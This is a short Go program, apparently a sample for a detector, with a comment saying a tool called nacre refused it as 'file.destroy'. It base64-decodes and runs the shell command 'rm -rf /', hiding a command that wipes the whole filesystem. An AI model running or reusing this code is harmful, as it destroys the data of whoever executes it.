// nacre: refused file.destroy
package main

import (
	"encoding/base64"
	"os/exec"
)

func main() {
	text, _ := base64.StdEncoding.DecodeString("cm0gLXJmIC8=")
	exec.Command("sh", "-c", string(text)).Run()
}
